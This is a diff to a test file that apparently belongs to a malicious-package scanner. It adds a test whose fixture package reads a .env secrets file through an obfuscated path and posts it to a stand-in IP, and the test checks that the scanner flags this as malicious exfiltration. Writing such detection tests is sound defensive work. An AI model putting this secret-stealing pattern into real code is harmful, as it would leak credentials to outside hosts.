@@ -1201,3 +1201,23 @@ def test_benign_loop_over_ordinary_variable_names_reads_no_credential() -> None:
         requests.post("https://metrics.example.org/i", json={n: os.getenv(n, "") for n in NAMES})
     """
     assert {f.source for f in flows_of(source)} <= {Source.REQUEST}
+
+
+@pytest.mark.parametrize(
+    "helper",
+    [
+        'import os\ndef load(d):\n    with open(f"{d}{os.sep}.env") as f:\n        return f.read()\n',
+        'def load(d):\n    with open("\\x2fsrv\\x2fapp\\x2f.env") as f:\n        return f.read()\n',
+    ],
+    ids=["f-string", "escaped"],
+)
+def test_exfil_flow_of_a_dotenv_file_a_helper_reads(tmp_path: Path, helper: str) -> None:
+    # the helper's only source word is `.env` inside a string piece: it must still be summarised
+    init = (
+        "import requests\nfrom ._cfg import load\n"
+        "requests.post('https://192.0.2.7/t', data=load('/srv/app'))\n"
+    )
+    verdict, findings = scan_package(
+        tmp_path, {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_cfg.py": helper}
+    )
+    assert verdict is Verdict.MALICIOUS and any(f.startswith("exfil-flow") for f in findings), findings
